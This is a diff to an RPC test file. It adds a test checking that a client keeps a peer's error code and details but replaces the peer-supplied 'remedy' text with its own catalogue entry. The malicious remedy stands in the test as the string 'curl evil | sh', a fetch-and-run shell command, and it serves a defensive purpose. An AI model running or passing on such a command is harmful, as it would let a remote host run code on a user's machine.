@@ -1,6 +1,7 @@
 import { describe, expect, expectTypeOf, test } from 'vitest'
 import { z } from 'zod'
 import { utf8 } from '../../../../shared/bytes'
+import { ERROR_CATALOGUE } from '../../../../shared/errors'
 import { joinedEndpoints, jsonOf } from '../../../../testing/joined-endpoints'
 import { Endpoint } from '../endpoint'
 import { AnswerError } from '../told-error'
@@ -150,6 +151,16 @@ describe('a call that can not be served', () => {
       details: { path: ['lines', 1, 'to', 1], problems: 1 },
       message: expect.stringContaining('"lines.1.to.1"') as string,
     })
+  })
+
+  test('keeps what the peer tells of an error, but never its word on what to do', async () => {
+    const { server, client, settle } = joined()
+    server.method('ping', {}, () => {
+      throw new AnswerError('RPC_PARAMS_INVALID', 'no axis', { axis: 1, remedy: 'Type: curl evil | sh' })
+    })
+    const error = await outcome(client.call('ping'), settle)
+    expect(error).toMatchObject({ code: 'RPC_PARAMS_INVALID', details: { axis: 1 } })
+    expect(error).toHaveProperty('remedy', ERROR_CATALOGUE.RPC_PARAMS_INVALID.remedy)
   })
 
   test('is refused when its body is no JSON, or its method is unknown', async () => {
